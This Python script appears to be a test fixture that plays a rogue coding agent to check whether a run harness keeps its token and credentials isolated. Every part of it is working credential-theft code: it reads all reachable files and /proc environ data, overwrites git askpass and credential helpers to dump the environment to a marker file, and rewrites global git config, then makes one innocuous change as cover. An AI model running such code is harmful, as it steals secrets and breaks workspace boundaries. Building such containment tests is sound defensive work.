"""Agent: hunts for the run token and for any credential plumbing to hijack. argv: the directory tree to search
(everything the run can reach), a file to dump everything read into, a marker file a hijacked helper would write.

It reads its environment, every readable file under the tree (the workspace, its parents' other files), every
/proc/*/environ and cmdline it may open, and every git config it finds; rewrites every askpass script and
credential helper it finds to write its environment to the marker; plants new ones where git might look; and makes
one legitimate change."""

import contextlib
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

root, dump, marker = Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3])
THIEF = f"#!/bin/sh\nenv >> '{marker}'\necho stolen >> '{marker}'\n"
seen = bytearray(json.dumps(dict(os.environ)).encode())
read: list[str] = []
hijacked: list[str] = []


def hijack(path: Path) -> None:
    try:
        path.write_text(THIEF)
        path.chmod(0o755)
        hijacked.append(str(path))
    except OSError:
        pass


for top, _dirs, files in os.walk(root):
    for name in files:
        path = Path(top) / name
        if path == dump:
            continue
        try:
            if not stat.S_ISREG(path.lstat().st_mode):
                continue
            data = path.read_bytes()
        except OSError:
            continue
        seen += data
        read.append(str(path))
        if "askpass" in name.lower() or name.startswith("git-credential"):
            hijack(path)
        elif name in ("config", ".gitconfig") and (b"credential" in data or b"askpass" in data.lower()):
            hijacked.append(str(path))
            with path.open("a") as file:
                file.write(f"[credential]\n\thelper = !sh -c 'env >> {marker}'\n[core]\n\taskPass = {marker}.sh\n")
for entry in Path("/proc").iterdir():
    if entry.name.isdigit():
        for what in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                seen += (entry / what).read_bytes()
# Where an older runner kept its helper, and where git looks for configuration.
workspace = Path.cwd().parents[1]
(workspace / "bin").mkdir(exist_ok=True)
hijack(workspace / "bin" / "git-askpass")
home = Path(os.environ["HOME"])
subprocess.run(["git", "config", "--global", "credential.helper", f"!sh -c 'env >> {marker}'"], check=True)
subprocess.run(["git", "config", "credential.helper", f"!sh -c 'env >> {marker}'"], check=True)
subprocess.run(["git", "config", "core.askPass", str(workspace / "bin" / "git-askpass")], check=True)
dump.write_bytes(bytes(seen))
dump.with_suffix(".json").write_text(json.dumps({"read": read, "hijacked": hijacked}))
Path("src/app.py").write_text("def answer() -> int:\n    return 42\n")
